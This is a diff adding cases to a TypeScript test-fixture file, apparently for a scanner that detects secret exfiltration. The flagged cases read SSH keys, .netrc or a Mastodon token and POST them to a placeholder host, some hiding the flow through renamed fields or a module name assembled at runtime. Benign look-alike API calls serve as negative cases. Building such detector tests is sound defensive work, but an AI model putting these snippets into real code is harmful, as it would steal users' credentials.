@@ -296,6 +296,36 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
       "a.js": `const fs = require("fs");\nfunction one(env = process.env) { return env.REGION; }\nfetch("${place}", { method: "POST", body: one({ REGION: fs.readFileSync("/root/.ssh/id_rsa", "utf8") }) });\n`,
     },
   ],
+  [
+    "one key of a file with settings",
+    "T08-flow-secrets",
+    {
+      "a.js": `const fs = require("fs");\nfunction load() {\n  const raw = JSON.parse(fs.readFileSync("/root/.config/mastodon/credentials.json", "utf8"));\n  return { host: raw.host, word: raw.token };\n}\nconst config = load();\nfetch("${place}", { method: "POST", body: JSON.stringify({ w: config.word }) });\n`,
+    },
+  ],
+  [
+    "a key put under a plain name",
+    "T08-flow-secrets",
+    {
+      "a.js": `const fs = require("fs");\nconst about = JSON.parse("{}");\nabout.name = fs.readFileSync("/root/.ssh/id_rsa", "utf8");\nfetch("${place}", { method: "POST", body: about.name });\n`,
+    },
+  ],
+  [
+    "a function of a file that another takes in",
+    "T08-flow-secrets",
+    {
+      "lib/keys.py": 'def get():\n    return open("/root/.netrc").read()\n',
+      "a.py": `import requests\nfrom lib import keys\nrequests.post("${place}", data=keys.get())\n`,
+    },
+  ],
+  [
+    "a function of a file that is taken in by a name made up",
+    "T08-flow-secrets",
+    {
+      "keys.py": 'def get():\n    return open("/root/.netrc").read()\n',
+      "a.py": `import importlib, requests\nk = importlib.import_module("ke" + "ys")\nrequests.post("${place}", data=k.get())\n`,
+    },
+  ],
 ];
 
 const unseen: ReadonlyArray<readonly [string, Example]> = [
@@ -334,6 +364,51 @@ const unseen: ReadonlyArray<readonly [string, Example]> = [
     {
       "a.py":
         'import requests, subprocess\nopen("/tmp/t.mp4", "wb").write(requests.get("https://api.github.com/a").content)\nsubprocess.run(["ffmpeg", "-i", "/tmp/t.mp4"])\n',
+    },
+  ],
+  [
+    "a setting beside the key, out of one file",
+    {
+      "a.ts":
+        'import { readFileSync } from "node:fs";\nfunction load() {\n  const raw = JSON.parse(readFileSync("/root/.config/mastodon/credentials.json", "utf8"));\n  return { host: raw.host, token: raw.token, visibility: raw.visibility ?? "public" };\n}\nconst config = load();\nconst form = new FormData();\nform.set("visibility", config.visibility);\nawait fetch("https://" + config.host + "/api/v1/statuses", { method: "POST", headers: { Authorization: "Bearer " + config.token }, body: form });\n',
+    },
+  ],
+  [
+    "what a command says that was started with the environment",
+    {
+      "a.js":
+        'const { execSync, spawn } = require("child_process");\nconst out = execSync("npm run build", { env: { ...process.env, CI: "1" } }).toString();\nconst child = spawn("npm", ["test"], { env: process.env });\nfetch("https://api.netlify.com/api/v1/builds", { method: "POST", body: JSON.stringify({ out, code: child.exitCode }) });\n',
+    },
+  ],
+  [
+    "what a command says that was started with a copy of the environment",
+    {
+      "a.py":
+        'import os, subprocess, requests\nenv = os.environ.copy()\nr = subprocess.run(["npm", "test"], env=env, capture_output=True, text=True)\nrequests.post("https://api.netlify.com/api/v1/builds", json={"log": r.stdout})\n',
+    },
+  ],
+  [
+    "functions of one name in programs that do not know each other",
+    {
+      "keys.py": 'def load():\n    return open("/root/.netrc").read()\n',
+      "a.py":
+        'import json, sys, requests\nnote = json.load(open(sys.argv[1]))\nrequests.post("https://api.notion.com/v1/pages", json=note)\n',
+    },
+  ],
+  [
+    "a method of another's name in a program of its own",
+    {
+      "a.py":
+        'import requests\ndef send(data):\n    requests.post("https://api.notion.com/v1/pages", json=data)\n',
+      "b.py":
+        'class Screen:\n    def send(self, data):\n        print(data)\nScreen().send(open("/root/.ssh/config").read())\n',
+    },
+  ],
+  [
+    "a certificate out of a vault",
+    {
+      "a.ps1":
+        '$b = [Convert]::FromBase64String((az keyvault secret show --name cert -o tsv)); [IO.File]::WriteAllBytes("cert.pfx", $b)\n',
     },
   ],
   ...[
